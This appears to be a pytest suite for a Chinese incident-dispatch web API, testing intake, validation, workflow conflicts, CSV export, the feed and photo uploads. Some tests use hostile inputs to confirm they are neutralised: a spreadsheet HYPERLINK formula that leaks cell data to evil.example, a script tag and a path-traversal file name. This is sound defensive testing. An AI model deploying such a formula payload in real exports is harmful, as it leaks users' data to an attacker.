"""The incident API end to end: intake, retries, bad input, lists, CSV, the live feed, actions, 409."""

import csv
import gzip
import io
from datetime import date

import pytest
from sqlalchemy import func, select

from extensions import db
from geo.dispatch.models import Incident
from geo.dispatch.queues import Queue
from tests.conftest import csrf_token_of, post_multipart

GOOD = {
    "net": "social",
    "category": "dispute",
    "title": "草场边界纠纷",
    "lon": 99.2991,
    "lat": 28.2446,
    "channel": "phone",
    "priority": "high",
    "reporter_name": "测试",
    "reporter_phone": "0887-1234567",
}


def post(client, path, body, **headers):
    return client.post(path, json=body, headers={"X-CSRFToken": csrf_token_of(client, "/"), **headers})


def incident_count(app) -> int:
    with app.app_context():
        return db.session.scalars(select(func.count()).select_from(Incident)).one()


def test_intake_routes_and_answers_201(client):
    response = post(client, "/api/incidents", GOOD)
    assert response.status_code == 201
    body = response.get_json()
    assert body["ticket"].startswith("DQ-") and body["status"] == "reported"
    assert body["assignee"] and body["group_code"].startswith("533422102")
    assert [link["level"] for link in body["chain"]] == ["county", "township", "village", "group"]
    assert body["actions"] == ["register", "reject", "duplicate", "reassign", "note"]


def test_the_desk_is_not_offered_the_workers_own_steps(client):
    case = post(client, "/api/incidents", GOOD).get_json()
    ticket, version = case["ticket"], case["version"]
    for action in ("register", "dispatch"):
        answer = post(client, f"/api/incidents/{ticket}/{action}", {"version": version})
        assert answer.status_code == 200, answer.get_json()
        version = answer.get_json()["version"]
    detail = client.get(f"/api/incidents/{ticket}").get_json()
    # 接收 and 办结反馈 are the grid worker's, on their phone page; the desk escalates, reassigns, notes.
    assert detail["status"] == "dispatched" and not {"accept", "resolve"} & set(detail["actions"])
    assert {"reassign", "escalate", "note"} <= set(detail["actions"])


def test_retry_with_the_same_idempotency_key_creates_nothing_new(app, client):
    first = post(client, "/api/incidents", GOOD, **{"Idempotency-Key": "retry-test-1"})
    before = incident_count(app)
    again = post(client, "/api/incidents", GOOD, **{"Idempotency-Key": "retry-test-1"})
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.get_json()["ticket"] == first.get_json()["ticket"]
    assert incident_count(app) == before


def test_gcj02_input_is_converted(client):
    body = post(client, "/api/incidents", {**GOOD, "lon": 99.300116, "lat": 28.241126, "crs": "gcj02"}).get_json()
    assert abs(body["lon"] - 99.2991) < 1e-5 and abs(body["lat"] - 28.2446) < 1e-5


@pytest.mark.parametrize(
    ("changes", "status", "field"),
    [
        ({"lon": 99.35, "lat": 29.05}, 400, "lon"),
        ({"category": "nope"}, 400, "category"),
        ({"net": "party"}, 400, "net"),
        ({"lat": 128.0}, 400, "lat"),
        ({"lon": 28.2446, "lat": 99.2991}, 400, "lon"),
        ({"title": "x" * 201}, 400, "title"),
        ({"title": ""}, 400, "title"),
        ({"lon": "east"}, 400, "lon"),
        ({"reporter_phone": "<script>"}, 400, "reporter_phone"),
    ],
)
def test_bad_intake_is_a_4xx_naming_the_field_and_writes_nothing(app, client, changes, status, field):
    before = incident_count(app)
    response = post(client, "/api/incidents", {**GOOD, **changes})
    assert response.status_code == status, response.get_json()
    assert response.get_json()["field"] == field
    assert incident_count(app) == before


def test_missing_field_wrong_content_type_and_broken_json(app, client):
    before = incident_count(app)
    token = csrf_token_of(client, "/")
    missing = post(client, "/api/incidents", {k: v for k, v in GOOD.items() if k != "title"})
    assert missing.status_code == 400 and missing.get_json()["field"] == "title"
    assert missing.get_json()["error"] == "标题：必填"  # the schema's own message, in the page's language
    long = post(client, "/api/incidents?lang=en", {**GOOD, "title": "x" * 201}).get_json()["error"]
    assert long == "title: Length must be between 1 and 200."
    form = client.post("/api/incidents", data=GOOD, headers={"X-CSRFToken": token})
    assert form.status_code == 415
    broken = client.post(
        "/api/incidents", data="{not json", headers={"X-CSRFToken": token, "Content-Type": "application/json"}
    )
    assert broken.status_code == 400
    assert incident_count(app) == before


def test_religious_intake_needs_the_net(client_as):
    response = post(
        client_as("benzilan"), "/api/incidents", {**GOOD, "net": "religious", "category": "religious_site_safety"}
    )
    assert response.status_code == 403


def test_workflow_over_the_api_and_409_on_a_stale_version(client, client_as):
    ticket = post(client, "/api/incidents", GOOD).get_json()["ticket"]
    first = client.get(f"/api/incidents/{ticket}").get_json()
    other = client_as("admin")
    assert post(other, f"/api/incidents/{ticket}/register", {"version": first["version"]}).status_code == 200
    stale = post(client, f"/api/incidents/{ticket}/reject", {"version": first["version"], "note": "重复"})
    assert stale.status_code == 409
    current = stale.get_json()["details"]
    assert current["status"] == "registered"
    illegal = post(client, f"/api/incidents/{ticket}/verify", {"version": current["version"]})
    assert illegal.status_code == 422
    # In the page's language (Chinese unless English was chosen), statuses and actions by name.
    assert (
        illegal.get_json()["error"]
        == "事件处于“案卷建立”状态，不能“核查结案”；现在可以：派遣、不予受理、标记重复、改派、备注"
    )
    english = post(client, f"/api/incidents/{ticket}/verify?lang=en", {"version": current["version"]})
    assert english.get_json()["error"] == (
        "cannot verify an incident that is registered; possible now: dispatch, reject, duplicate, reassign, note"
    )
    dispatched = post(client, f"/api/incidents/{ticket}/dispatch", {"version": current["version"]})
    assert dispatched.status_code == 200 and dispatched.get_json()["due_at"]
    unknown = post(client, f"/api/incidents/{ticket}/teleport", {"version": 1})
    assert unknown.status_code == 404


def test_actions_need_csrf_from_a_browser_session(client):
    ticket = post(client, "/api/incidents", GOOD).get_json()["ticket"]
    assert client.post(f"/api/incidents/{ticket}/register", json={"version": 1}).status_code == 400


def test_list_filters_pagination_and_scope(client, client_as):
    page = client.get("/api/incidents?per_page=5&status=closed&net=social").get_json()
    assert len(page["items"]) == 5 and page["total"] > 5
    assert all(i["status"] == "closed" and i["net"] == "social" for i in page["items"])
    benzilan = client_as("benzilan").get("/api/incidents?per_page=500").get_json()["items"]
    assert benzilan and all(i["group_code"].startswith("533422102") and i["net"] != "religious" for i in benzilan)
    overdue = client.get("/api/incidents?overdue=true&per_page=500").get_json()["items"]
    assert all(i["overdue"] for i in overdue)
    assert client.get("/api/incidents?since=yesterday").status_code == 400
    assert client.get("/api/incidents?per_page=100000").status_code == 400


def test_csv_export_of_a_filtered_list(client):
    response = client.get("/api/incidents?format=csv&grid=533422102&status=closed")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows and all(r["group_code"].startswith("533422102") and r["status"] == "closed" for r in rows)


def test_csv_export_neutralises_formulas(client):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
    ticket = post(client, "/api/incidents", {**GOOD, "title": title}).get_json()["ticket"]
    response = client.get("/api/incidents?format=csv&grid=533422102&status=reported")
    rows = {row["ticket"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))}
    assert rows[ticket]["title"] == "'" + title
    assert float(rows[ticket]["lon"]) == GOOD["lon"]


def test_feed_sends_only_what_changed(client):
    everything = client.get("/api/incidents/feed?since=0&closed_since=2000-01-01").get_json()
    assert len(everything["features"]) >= 10_000
    cursor = everything["cursor"]
    assert client.get(f"/api/incidents/feed?since={cursor}").get_json()["features"] == []
    ticket = post(client, "/api/incidents", GOOD).get_json()["ticket"]
    changed = client.get(f"/api/incidents/feed?since={cursor}").get_json()
    assert [f["id"] for f in changed["features"]] == [ticket]


def test_the_console_maps_open_cases_and_recent_closures_unless_asked_for_older(client):
    recent = client.get("/api/incidents/feed").get_json()
    older = client.get("/api/incidents/feed?closed_since=2000-01-01").get_json()
    finished = {"closed", "rejected", "duplicate"}
    assert recent["closed_since"] < date.today().isoformat() and older["closed_since"] == "2000-01-01"
    assert {f["id"] for f in older["features"] if f["properties"]["s"] not in finished} == {
        f["id"] for f in recent["features"] if f["properties"]["s"] not in finished
    }
    assert len(recent["features"]) < len(older["features"]) / 5  # most demo cases were closed long ago


def test_feed_by_net_and_small_markers(client):
    features = client.get("/api/incidents/feed?net=religious").get_json()["features"]
    assert features and {f["properties"]["n"] for f in features} == {"religious"}
    assert set(features[0]["properties"]) == {"s", "n", "o", "e", "c", "g", "d", "q"}


@pytest.mark.parametrize("username", ["dispatcher", "benzilan"])
def test_each_queue_count_is_the_total_of_the_list_it_opens(client_as, username):
    client = client_as(username)
    queue = client.get("/api/incidents/queue").get_json()
    assert list(queue) == [q.value for q in Queue]
    assert queue["new"] > 0
    for name, count in queue.items():
        listed = client.get(f"/api/incidents?queue={name}&per_page=500").get_json()
        assert listed["total"] == count, name
        assert len(listed["items"]) == min(count, 500), name


def test_an_unknown_queue_answers_400_naming_it(client):
    response = client.get("/api/incidents?queue=later&lang=en")
    assert response.status_code in (400, 422) and response.get_json()["field"] == "queue"


def test_category_catalogue_is_admin_editable(client, client_as):
    admin = client_as("admin")
    assert (
        post(
            client,
            "/api/categories",
            {"net": "social", "code": "x_test", "name_zh": "测", "name_en": "T", "sla_hours": 5},
        ).status_code
        == 403
    )
    created = post(
        admin,
        "/api/categories",
        {"net": "social", "code": "road_damage", "name_zh": "道路损毁", "name_en": "Road damage", "sla_hours": 48},
    )
    assert created.status_code in (201, 409)
    token = csrf_token_of(admin, "/")
    changed = admin.patch("/api/categories/road_damage", json={"sla_hours": 24}, headers={"X-CSRFToken": token})
    assert changed.get_json()["sla_hours"] == 24
    codes = {c["code"] for c in client_as("benzilan").get("/api/categories").get_json()}
    assert "road_damage" in codes and "religious_site_safety" not in codes


def test_openapi_document_describes_the_incident_api(anonymous):
    spec = anonymous.get("/api/openapi.json").get_json()
    assert "/api/incidents" in spec["paths"] and "/api/incidents/{ticket}/{action}" in spec["paths"]


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def upload(client, ticket, data, name="photo.png"):
    return post_multipart(client, f"/api/incidents/{ticket}/attachments", {"file": (io.BytesIO(data), name)})


def test_photos_attach_and_come_back(client, client_as):
    ticket = post(client, "/api/incidents", GOOD).get_json()["ticket"]
    created = upload(client, ticket, PNG, "../../etc/现场.png")
    assert created.status_code == 201 and created.get_json()["filename"] == "现场.png"
    detail = client.get(f"/api/incidents/{ticket}").get_json()
    attachment = detail["attachments"][0]
    assert (attachment["content_type"], attachment["size"]) == ("image/png", len(PNG))
    photo = client.get(f"/api/incidents/{ticket}/attachments/{attachment['id']}")
    assert photo.data == PNG and photo.mimetype == "image/png"
    assert photo.headers["X-Content-Type-Options"] == "nosniff"
    foreign = client_as("patrol").get(f"/api/incidents/{ticket}/attachments/{attachment['id']}")
    assert foreign.status_code == 404  # 羊拉乡 cannot see a 奔子栏镇 case


@pytest.mark.parametrize(
    ("data", "status"),
    [
        (b"<html>not a photo</html>", 415),
        (b"", 400),
        (b"\xff\xd8\xff" + b"\x00" * (5 * 1024 * 1024), 413),
        (b"\x00" * (7 * 1024 * 1024), 413),
    ],
)
def test_bad_attachments_are_refused(client, data, status):
    ticket = post(client, "/api/incidents", GOOD).get_json()["ticket"]
    response = upload(client, ticket, data)
    assert response.status_code == status
    assert client.get(f"/api/incidents/{ticket}").get_json()["attachments"] == []


def test_a_long_list_says_its_total_is_at_least_the_cap_unless_asked_exactly(client, monkeypatch):
    monkeypatch.setattr("geo.dispatch.views.TOTAL_CAP", 100)
    capped = client.get("/api/incidents?per_page=5").get_json()
    assert (capped["total"], capped["total_capped"], len(capped["items"])) == (100, True, 5)
    exact = client.get("/api/incidents?per_page=5&exact_total=true").get_json()
    assert exact["total"] > 100 and exact["total_capped"] is False
    few = client.get("/api/incidents?status=rejected&per_page=5").get_json()
    assert few["total"] < 100 and few["total_capped"] is False


def test_an_export_past_the_limit_is_refused_naming_it_never_cut(client, monkeypatch):
    monkeypatch.setattr("geo.dispatch.export.EXPORT_LIMIT", 100)
    response = client.get("/api/incidents?format=csv&lang=en")
    assert response.status_code == 413
    assert "more than 100 incidents" in response.get_json()["error"] and "narrow" in response.get_json()["error"]
    chinese = client.get("/api/incidents?format=csv&lang=zh").get_json()["error"]
    assert "超过 100 件" in chinese
    few = client.get("/api/incidents?format=csv&status=rejected")
    assert few.status_code == 200 and few.get_data(as_text=True).count("\n") < 101


def test_an_export_streams_gzip_when_the_client_accepts_it(client):
    plain = client.get("/api/incidents?format=csv&grid=533422102").get_data()
    response = client.get("/api/incidents?format=csv&grid=533422102", headers={"Accept-Encoding": "gzip"})
    assert response.is_streamed and response.headers["Content-Encoding"] == "gzip"
    assert gzip.decompress(response.get_data()) == plain and len(response.get_data()) < len(plain) / 3
    assert plain.decode().lstrip("\ufeff").count("\n") > 300


def test_a_full_feed_page_says_more_and_the_cursor_brings_the_rest(client, monkeypatch):
    monkeypatch.setattr("routes.incidents.FEED_PAGE", 100)
    first = client.get("/api/incidents/feed").get_json()
    assert len(first["features"]) == 100 and first["more"] is True
    rest = client.get(f"/api/incidents/feed?since={first['cursor']}").get_json()
    assert not {f["id"] for f in first["features"]} & {f["id"] for f in rest["features"]}
